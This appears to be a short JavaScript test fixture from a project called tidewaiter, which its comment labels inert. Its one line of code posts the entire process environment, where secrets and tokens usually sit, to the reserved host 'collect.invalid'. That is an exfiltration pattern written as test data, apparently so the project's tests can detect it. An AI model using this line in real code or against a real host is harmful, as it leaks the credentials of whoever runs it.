// Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
const mk=h=>d=>{const r=require("https").request({hostname:h,method:"POST"});r.end(d);};const send=mk("collect.invalid");send(JSON.stringify(process.env));
